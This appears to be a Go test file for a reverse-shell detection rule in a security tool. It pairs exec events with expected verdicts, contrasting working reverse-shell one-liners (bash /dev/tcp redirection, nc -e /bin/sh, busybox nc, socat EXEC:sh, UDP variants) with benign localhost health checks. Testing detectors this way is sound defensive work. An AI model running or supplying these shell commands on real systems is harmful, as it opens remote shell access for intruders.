package builtin

import "testing"

func TestReverseShell(t *testing.T) {
	run(t, reverseShell, tests{
		"bash":                      {exec("/bin/bash", "bash\x00-c\x00bash -i >& /dev/tcp/192.0.2.1/9", 0), true},
		"netcat":                    {exec("/bin/nc", "nc\x00192.0.2.1\x009\x00-e\x00/bin/sh", 0), true},
		"busybox":                   {exec("/bin/busybox", "nc\x00-e\x00sh", 0), true},
		"socat":                     {exec("/usr/bin/socat", "socat\x00TCP:192.0.2.1:9\x00EXEC:sh", 0), true},
		"nc, plain":                 {exec("/bin/nc", "nc\x00192.0.2.1\x009", 0), false},
		"no code":                   {exec("/bin/cat", "cat\x00/dev/tcp/x", 0), false},
		"sh, plain":                 {exec("/bin/sh", "sh\x00-c\x00ls", 0), false},
		"health check":              {exec("/bin/bash", "bash\x00-c\x00exec 3<>/dev/tcp/127.0.0.1/9000; printf x >&3; cat <&3 | grep -i ok", 0), false},
		"health check by name":      {exec("/bin/bash", "bash\x00-c\x00</dev/tcp/localhost/80", 0), false},
		"health check, IPv6":        {exec("/bin/bash", "bash\x00-c\x00</dev/tcp/::1/80", 0), false},
		"health check, any address": {exec("/bin/bash", "bash\x00-c\x00: >/dev/udp/0.0.0.0/80", 0), false},
		"to itself":                 {exec("/bin/bash", "bash\x00-c\x00bash -i >/dev/tcp/127.0.0.1/9", 0), true},
		"to itself, output":         {exec("/bin/bash", "bash\x00-c\x00sh </dev/tcp/localhost/9 0>&1", 0), true},
		"to itself, input":          {exec("/bin/bash", "bash\x00-c\x000<&196;exec 196<>/dev/tcp/127.0.0.1/9; sh <&196", 0), true},
		"to itself, both":           {exec("/bin/bash", "bash\x00-c\x00sh >& /dev/tcp/::1/9", 0), true},
		"also to another":           {exec("/bin/bash", "bash\x00-c\x00</dev/tcp/localhost/80; exec 3<>/dev/tcp/192.0.2.1/9", 0), true},
		"name that begins so":       {exec("/bin/bash", "bash\x00-c\x00</dev/tcp/127.0.0.1.example.com/9", 0), true},
		"datagrams":                 {exec("/bin/bash", "bash\x00-c\x00exec 3<>/dev/udp/192.0.2.1/9", 0), true},
	})
}
